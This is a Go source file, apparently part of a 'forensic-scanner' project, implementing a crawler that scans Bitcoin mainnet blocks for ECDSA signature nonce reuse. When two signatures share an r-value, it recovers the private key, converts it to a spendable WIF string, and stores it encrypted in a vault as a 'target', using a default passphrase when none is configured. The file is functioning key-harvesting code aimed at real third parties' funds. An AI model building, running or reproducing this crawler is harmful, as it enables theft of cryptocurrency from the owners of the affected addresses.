package noncecrawl

import (
	"context"
	"encoding/hex"
	"fmt"
	"log"
	"sync/atomic"
	"time"

	"github.com/btcsuite/btcd/btcec/v2"
	"github.com/btcsuite/btcd/btcjson"
	"github.com/btcsuite/btcd/btcutil"
	"github.com/btcsuite/btcd/chaincfg"
	"github.com/btcsuite/btcd/chaincfg/chainhash"
	"github.com/btcsuite/btcd/txscript"
	"github.com/5n10sndkts/forensic-scanner/internal/checkpoint"
	"github.com/5n10sndkts/forensic-scanner/internal/ratelimit"
	"github.com/5n10sndkts/forensic-scanner/internal/rpcclient"
	"github.com/5n10sndkts/forensic-scanner/internal/vault"
)

// Config controls one crawler run.
type Config struct {
	StartBlock      int64
	EndBlock        int64
	CheckpointPath  string
	CheckpointEvery int64         // blocks between checkpoint writes; default 100
	RateLimit       time.Duration // sleep between blocks; default 50ms
	VaultPassphrase string
}

func (c Config) withDefaults() Config {
	if c.CheckpointEvery <= 0 {
		c.CheckpointEvery = 100
	}
	if c.RateLimit <= 0 {
		c.RateLimit = 50 * time.Millisecond
	}
	return c
}

// RecoveredKey is emitted when the crawler algebraically recovers a
// private key from an r-value collision and confirms it against the
// observed public key.
type RecoveredKey struct {
	Address     string
	PrivKey     [32]byte
	FirstTx     string
	SecondTx    string
	BlockHeight int
	R           [32]byte
}

// Crawler walks a block range, parses legacy ECDSA signatures, and
// recovers private keys on r-value reuse.
type Crawler struct {
	rpc   *rpcclient.Client
	store *vault.Store
	cfg   Config
	index *RValueIndex

	currentHeight atomic.Int64
	blocksScanned atomic.Int64
	txsScanned    atomic.Int64
	collisions    atomic.Int64
	keysRecovered atomic.Int64
	errorCount    atomic.Int64
	isRunning     atomic.Bool

	limiter     *ratelimit.Bucket
	onRecovered func(RecoveredKey)
}

func NewCrawler(rpc *rpcclient.Client, store *vault.Store, cfg Config, onRecovered func(RecoveredKey)) *Crawler {
	cfg = cfg.withDefaults()
	return &Crawler{
		rpc:         rpc,
		store:       store,
		cfg:         cfg,
		index:       NewRValueIndex(),
		onRecovered: onRecovered,
		// one token per RateLimit interval, burst 1: the same bucket the
		// HTTP API throttles per-IP requests with (internal/api/ratelimit.go),
		// paced to the RPC node instead of a client IP.
		limiter: ratelimit.New(1.0/cfg.RateLimit.Seconds(), 1),
	}
}

// Progress is the crawler's current state, safe for concurrent reads.
type Progress struct {
	IsRunning     bool  `json:"isRunning"`
	CurrentHeight int64 `json:"currentHeight"`
	BlocksScanned int64 `json:"blocksScanned"`
	TxsScanned    int64 `json:"txsScanned"`
	Collisions    int64 `json:"collisions"`
	KeysRecovered int64 `json:"keysRecovered"`
	Errors        int64 `json:"errors"`
}

func (c *Crawler) Progress() Progress {
	return Progress{
		IsRunning:     c.isRunning.Load(),
		CurrentHeight: c.currentHeight.Load(),
		BlocksScanned: c.blocksScanned.Load(),
		TxsScanned:    c.txsScanned.Load(),
		Collisions:    c.collisions.Load(),
		KeysRecovered: c.keysRecovered.Load(),
		Errors:        c.errorCount.Load(),
	}
}

// Run walks [start, end] inclusive, resuming from the checkpoint file when
// it falls inside that range, and blocks until the range is exhausted or
// ctx is cancelled. The crawler is single-threaded by design — its
// bottleneck is the external RPC, not CPU.
func (c *Crawler) Run(ctx context.Context) error {
	if c.isRunning.Swap(true) {
		return fmt.Errorf("crawler already running")
	}
	defer c.isRunning.Store(false)

	cp := checkpoint.Open(c.cfg.CheckpointPath)
	last, have, err := cp.Load()
	if err != nil {
		return fmt.Errorf("loading checkpoint: %w", err)
	}
	start := checkpoint.ResumeHeight(last, have, c.cfg.StartBlock, c.cfg.EndBlock)

	log.Printf("[noncecrawl] starting at block %d (range %d-%d)", start, c.cfg.StartBlock, c.cfg.EndBlock)

	for height := start; height <= c.cfg.EndBlock; height++ {
		select {
		case <-ctx.Done():
			log.Printf("[noncecrawl] cancelled at block %d", height)
			return cp.Save(height - 1)
		default:
		}

		c.currentHeight.Store(height)
		if err := c.scanBlock(ctx, height); err != nil {
			log.Printf("[noncecrawl] block %d: %v", height, err)
			c.errorCount.Add(1)
		}
		c.blocksScanned.Add(1)

		if height%c.cfg.CheckpointEvery == 0 {
			if err := cp.Save(height); err != nil {
				log.Printf("[noncecrawl] checkpoint write failed: %v", err)
			}
		}

		c.limiter.Wait()
	}

	if err := cp.Save(c.cfg.EndBlock); err != nil {
		return fmt.Errorf("final checkpoint write: %w", err)
	}
	log.Printf("[noncecrawl] done: %d blocks, %d txs, %d collisions, %d keys recovered",
		c.blocksScanned.Load(), c.txsScanned.Load(), c.collisions.Load(), c.keysRecovered.Load())
	return nil
}

func (c *Crawler) scanBlock(ctx context.Context, height int64) error {
	hash, err := c.rpc.BlockHashAt(height)
	if err != nil {
		return fmt.Errorf("getblockhash: %w", err)
	}
	block, err := c.rpc.Block(hash)
	if err != nil {
		return fmt.Errorf("getblock: %w", err)
	}

	for txIdx := range block.Tx {
		if txIdx == 0 {
			continue // coinbase has no real scriptSig signature
		}
		tx := &block.Tx[txIdx]
		c.txsScanned.Add(1)
		for vin := range tx.Vin {
			c.scanInput(ctx, int(height), tx, vin)
		}
	}
	return nil
}

func (c *Crawler) scanInput(ctx context.Context, height int, tx *btcjson.TxRawResult, vin int) {
	input := tx.Vin[vin]
	if input.Txid == "" {
		return // coinbase-style input, no scriptSig to parse
	}

	scriptSigBytes, err := hex.DecodeString(input.ScriptSig.Hex)
	if err != nil || len(scriptSigBytes) == 0 {
		return
	}

	r, s, sigEnd, err := FindDERSignature(scriptSigBytes)
	if err != nil {
		return // not a legacy signature-bearing input; skip silently
	}

	pubKey, err := ExtractPubKeyFromScriptSig(scriptSigBytes, sigEnd)
	if err != nil {
		pubKey = nil
	}

	point := SignaturePoint{
		R:           r,
		S:           s,
		Txid:        tx.Txid,
		Vin:         vin,
		BlockHeight: height,
		PubKey:      pubKey,
		Address:     AddressFromPubKey(pubKey),
	}

	z, err := c.computeZ(tx, vin, input)
	if err == nil {
		point.Z = &z
	}

	collision, found := c.index.CheckAndInsert(point)
	if !found {
		return
	}
	c.collisions.Add(1)

	if collision.First.Z == nil || collision.Second.Z == nil {
		log.Printf("[noncecrawl] r collision at %s:%d / %s:%d but missing z, cannot recover",
			collision.First.Txid, collision.First.Vin, collision.Second.Txid, collision.Second.Vin)
		return
	}

	priv, err := RecoverPrivateKeyFromNonceReuse(
		collision.First.R, collision.First.S, collision.Second.S,
		*collision.First.Z, *collision.Second.Z,
		collision.First.PubKey,
	)
	if err != nil {
		log.Printf("[noncecrawl] recovery rejected for r=%x: %v", collision.First.R, err)
		return
	}

	c.keysRecovered.Add(1)
	recovered := RecoveredKey{
		Address:     collision.First.Address,
		PrivKey:     priv,
		FirstTx:     collision.First.Txid,
		SecondTx:    collision.Second.Txid,
		BlockHeight: height,
		R:           collision.First.R,
	}

	if c.store != nil {
		c.persist(ctx, recovered)
	}
	if c.onRecovered != nil {
		c.onRecovered(recovered)
	}
}

func (c *Crawler) persist(ctx context.Context, rk RecoveredKey) {
	passphrase := c.cfg.VaultPassphrase
	if passphrase == "" {
		passphrase = vault.DefaultPassphrase
	}

	wif, err := PrivKeyToWIF(rk.PrivKey)
	if err != nil {
		log.Printf("[noncecrawl] wif encode failed for %s: %v", rk.Address, err)
		return
	}
	enc, err := vault.EncryptPrivateKey(wif, passphrase)
	if err != nil {
		log.Printf("[noncecrawl] vault encrypt failed for %s: %v", rk.Address, err)
		return
	}

	target := vault.NewTarget(rk.Address, "nonce_reuse").WithEncryptedKey(enc)
	if err := c.store.UpsertTarget(ctx, target); err != nil {
		log.Printf("[noncecrawl] vault upsert failed for %s: %v", rk.Address, err)
	}
}

// computeZ resolves the prevout scriptPubKey and computes the legacy
// sighash digest this input's signature committed to.
func (c *Crawler) computeZ(tx *btcjson.TxRawResult, vin int, input btcjson.Vin) ([32]byte, error) {
	var z [32]byte
	prevHash, err := chainhash.NewHashFromStr(input.Txid)
	if err != nil {
		return z, fmt.Errorf("parsing prevout txid: %w", err)
	}
	prevTx, err := c.rpc.RawTransaction(prevHash)
	if err != nil {
		return z, fmt.Errorf("fetching prevout tx: %w", err)
	}
	if int(input.Vout) >= len(prevTx.Vout) {
		return z, fmt.Errorf("prevout vout %d out of range", input.Vout)
	}
	prevScriptPubKeyHex := prevTx.Vout[input.Vout].ScriptPubKey.Hex

	return ComputeLegacySignatureHash(tx.Hex, vin, prevScriptPubKeyHex, txscript.SigHashAll)
}

// addressFromPubKey derives the P2PKH address a scriptSig's public key
// pays to, compressed or uncompressed per the key's own serialization
// length. Returns "" if pubKey is nil or malformed — the collision is
// still recorded and recoverable, just without a friendly label.
func AddressFromPubKey(pubKey []byte) string {
	if len(pubKey) != 33 && len(pubKey) != 65 {
		return ""
	}
	addr, err := btcutil.NewAddressPubKeyHash(btcutil.Hash160(pubKey), &chaincfg.MainNetParams)
	if err != nil {
		return ""
	}
	return addr.EncodeAddress()
}

// privKeyToWIF encodes a recovered scalar as a compressed-pubkey mainnet
// WIF string, ready for vault encryption.
func PrivKeyToWIF(priv [32]byte) (string, error) {
	privKey, _ := btcec.PrivKeyFromBytes(priv[:])
	wif, err := btcutil.NewWIF(privKey, &chaincfg.MainNetParams, true)
	if err != nil {
		return "", fmt.Errorf("encoding wif: %w", err)
	}
	return wif.String(), nil
}
